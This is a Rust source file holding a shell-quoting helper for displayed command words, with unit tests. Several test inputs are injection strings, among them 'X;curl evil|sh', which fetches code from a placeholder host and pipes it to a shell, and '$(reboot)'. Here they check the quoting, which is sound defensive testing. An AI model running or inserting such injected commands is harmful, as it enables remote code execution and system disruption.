//! Names and paths in commands that are shown to be typed.

use std::borrow::Cow;

/// A text as one word of a command line: what a shell would read otherwise is quoted. Names come from
/// other economies as well, and hints are there to be pasted.
#[must_use]
pub fn word(text: &str) -> Cow<'_, str> {
    let plain = |one: char| one.is_alphanumeric() || "-_./:@+,".contains(one);
    if !text.is_empty() && text.chars().all(plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(word(text), expected);
    }

    #[test]
    fn what_a_shell_would_run_or_split_is_quoted() {
        check("KR", "KR");
        check("Québec", "Québec");
        check("kr.example:4864", "kr.example:4864");
        check("Republic of Somewhere", "'Republic of Somewhere'");
        check("X;curl evil|sh", "'X;curl evil|sh'");
        check("$(reboot)", "'$(reboot)'");
        check("Côte d'Ivoire", r"'Côte d'\''Ivoire'");
        check("~root", "'~root'");
        check("", "''");
    }
}
